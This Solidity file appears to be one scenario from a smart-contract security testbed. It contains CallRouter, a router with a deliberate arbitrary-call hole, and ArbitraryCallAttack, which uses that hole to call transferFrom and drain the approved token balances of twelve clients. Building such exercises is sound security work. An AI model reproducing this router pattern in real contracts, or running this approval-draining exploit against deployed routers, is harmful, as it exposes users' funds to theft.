// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./Common.sol";

/// Sells what users approved, by a call that they name.
contract CallRouter {
    event Routed(address indexed who, address target);

    function route(IERC20 token, uint256 amount, address target, bytes calldata data) external {
        if (amount > 0) token.transferFrom(msg.sender, address(this), amount);
        if (amount > 0) token.approve(target, amount);
        (bool ok,) = target.call(data);
        require(ok, "route");
        emit Routed(msg.sender, target);
    }
}

contract ArbitraryCallScene is Scene {
    Token public usd;
    Token public coin = new Token("COIN", 18);
    Pair public pair;
    CallRouter public router = new CallRouter();
    address[] public clients;

    constructor(Bank b, address t, address s) payable Scene(b, t, s) {
        usd = _usd();
        _asset(address(coin), "COIN", 18, 1e6);
        pair = Pairs.open(coin, usd, 1_000_000e18, 1_000_000e18);
        _protect(address(router));
        loot0 = IERC20(address(usd));
    }

    function enrol(address[] calldata users) external override {
        _arm(usd, users, 40_000e18, address(router));
        _arm(coin, users, 40_000e18, address(router));
        for (uint256 i; i < 12; i++) clients.push(users[i]);
    }

    function menu(address who, uint256 dice) external view override returns (address, uint256, bytes memory) {
        (uint112 r0, uint112 r1,) = pair.getReserves();
        bool sell = r0 < r1;
        IERC20 token = IERC20(address(sell ? coin : usd));
        uint256 amount = _amount(dice, 10e18, 800e18);
        bytes memory call = abi.encodeCall(Pair.trade, (sell, amount, who));
        return (address(router), 0, abi.encodeCall(CallRouter.route, (token, amount, address(pair), call)));
    }
}

contract ArbitraryCallAttack is Attack {
    CallRouter private immutable router;
    ArbitraryCallScene private immutable scene;

    constructor(ArbitraryCallScene scene_) Attack(scene_) {
        (router, scene) = (scene_.router(), scene_);
    }

    function _act(uint256, uint256 index, uint256 count) internal override {
        for (uint256 i = index; i < 12; i += count) {
            address client = scene.clients(i);
            bytes memory call = abi.encodeCall(IERC20.transferFrom, (client, address(this), loot0.balanceOf(client)));
            router.route(loot0, 0, address(loot0), call);
        }
    }
}
